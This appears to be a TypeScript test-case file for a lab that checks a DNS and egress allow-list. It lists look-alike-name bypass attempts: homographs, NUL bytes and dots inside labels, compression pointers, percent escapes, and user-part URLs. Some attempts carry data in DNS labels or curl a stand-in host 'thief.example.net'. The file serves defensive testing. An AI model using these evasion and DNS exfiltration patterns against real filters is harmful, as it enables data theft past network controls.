import type { Row } from '../case.ts'
import { curl, dig, python } from './script.ts'

const by = 'names: does not fit, `REFUSED`'
const names = [
  ['suffix', 'evilgood.example.com', 'a name that ends like an allowed one'],
  ['prefix', 'good.example.com.$T.example.test', 'an allowed name in front of another zone'],
  ['parent', 'example.com', 'the zone above an allowed name'],
  ['below', '$T.good.example.com', 'a name below an allowed exact one'],
  ['wildcard-itself', 'wild.example.com', 'the zone of a wildcard itself'],
  ['wildcard-glued', 'xwild.example.com', 'a name that ends like a wildcard’s zone'],
  ['in-label', 'good.example.com$T.example.test', 'an allowed name as the beginning of labels'],
  ['homograph', 'xn--gd-jbba.example.com', 'a homograph as A-label (Cyrillic o)'],
  ['hyphen', 'good-example.com', 'a hyphen in place of a dot'],
  ['underscore', '_good.example.com', 'an underscore in front'],
] as const

/** Names that only their own text tells from others: asked for with their token in another place of the query. */
const unmarked = new Set([
  'suffix',
  'parent',
  'wildcard-itself',
  'wildcard-glued',
  'homograph',
  'hyphen',
  'underscore',
])

export const lookAlikes: Row = {
  row: 10,
  title: 'Names that look alike',
  cases: [
    ...names.map(([id, name, what]) =>
      Object.assign(
        {
          id: `name-${id}`,
          technique: `${what} (${name.replaceAll('$T', 'x')})`,
          attempt: dig(name),
          twin: dig('$HOST'),
          by,
        },
        unmarked.has(id) ? { targets: [`name ${name}`] } : {},
      ),
    ),
    {
      id: 'name-nul',
      technique: 'NUL byte behind an allowed name in one label',
      attempt: python(`
name = b''.join(bytes([len(l)]) + l for l in (b'good.example.com\\0' + DATA, b'example', b'test')) + b'\\0'
message = query('x')
ask(message[:12] + name + struct.pack('!HH', 1, 1))`),
      twin: python(`ask(query(HOST))`),
      by,
    },
    {
      id: 'name-dot-in-label',
      technique: 'an allowed name as one label with dots inside, in front of another zone',
      attempt: python(`
name = b''.join(bytes([len(l)]) + l for l in (b'good.example.com', DATA, b'example', b'test')) + b'\\0'
ask(query('x')[:12] + name + struct.pack('!HH', 1, 1))`),
      twin: python(`ask(query(HOST))`),
      by,
    },
    {
      id: 'name-dot-as-zone',
      technique: '“allow.example” as one label in front of com',
      attempt: python(`
name = b''.join(bytes([len(l)]) + l for l in (DATA, b'allow.example', b'com')) + b'\\0'
ask(query('x')[:12] + name + struct.pack('!HH', 1, 1))`),
      twin: python(`ask(query(HOST))`),
      by,
    },
    {
      id: 'name-long',
      technique: 'a name of 255 bytes that ends like an allowed one',
      attempt: python(`
labels = [b'a' * 63] * 3 + [DATA, b'x' * 20, b'xgood', b'example', b'com']
name = b''.join(bytes([len(l)]) + l for l in labels) + b'\\0'
ask(query('x')[:12] + name + struct.pack('!HH', 1, 1))`),
      twin: python(`ask(query('a' * 60 + '.' + HOST))`),
      by,
    },
    {
      id: 'name-too-long',
      technique: 'a name of more than 255 bytes below an allowed zone',
      attempt: python(`
labels = [b'a' * 63] * 5 + [DATA, b'allow', b'example', b'com']
name = b''.join(bytes([len(l)]) + l for l in labels) + b'\\0'
ask(query('x')[:12] + name + struct.pack('!HH', 1, 1))`),
      twin: python(`ask(query(HOST))`),
      by: 'names: no valid name, an error',
      silent: 'an error, no event',
      cannot: 'the servers of the lab answer no such query',
    },
    {
      id: 'name-compressed',
      technique: 'a question whose name points elsewhere in the message (compression)',
      attempt: python(`
ask(struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 1) + b'\\xc0\\x12\\0\\1\\0\\1' + name_wire(HOST) + struct.pack('!HHIH', 1, 1, 0, 0))`),
      twin: python(`ask(query(HOST))`),
      by: 'names: no valid question, an error',
      silent: 'an error, no event',
    },
    {
      id: 'name-trailing-dot',
      technique: 'trailing dot behind a denied name (curl)',
      attempt: curl('http://$HOST./'),
      by,
    },
    {
      id: 'name-full-stop',
      technique: 'ideographic full stops in a denied name (curl, IDNA)',
      attempt: curl('http://$T。thief。example。net/'),
      twin: curl('http://$T。allow。example。com/'),
      by,
    },
    {
      id: 'name-case',
      technique: 'denied name in capitals (curl)',
      attempt: curl('http://${HOST^^}/'),
      by,
    },
    {
      id: 'name-percent',
      technique: 'denied name in percent escapes (curl)',
      attempt: curl('http://$T%2ethief%2eexample%2enet/'),
      twin: curl('http://$T%2eallow%2eexample%2ecom/'),
      by,
    },
    {
      id: 'name-user-part',
      technique: 'allowed name as user part of a URL',
      attempt: curl('http://good.example.com@$HOST/'),
      by,
    },
  ],
}
